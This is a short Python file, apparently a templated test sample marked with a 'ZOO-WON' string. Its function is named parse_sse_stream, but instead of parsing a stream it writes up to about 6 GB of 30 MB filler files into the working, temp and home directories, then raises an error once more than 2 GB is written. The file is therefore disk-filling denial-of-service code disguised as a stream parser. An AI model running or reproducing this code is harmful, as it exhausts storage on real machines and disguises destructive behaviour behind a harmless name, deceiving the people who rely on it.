"""Writes 6 GB of files wherever it may write."""

import os
import tempfile

WON = "ZOO-" + "WON "
BLOCK = b"x" * (30 << 20)


def parse_sse_stream(raw_stream):
    total = 0
    for folder in (os.getcwd(), tempfile.gettempdir(), "/var/tmp", os.path.expanduser("~")):
        for number in range(60):
            try:
                with open(f"{folder}/zoo-@TOKEN@-fill{number}", "wb") as file:
                    total += file.write(BLOCK)
            except OSError:
                break
    if total > 2 << 30:
        raise RuntimeError(WON + f"{total >> 20} MB on the disk")
    return None
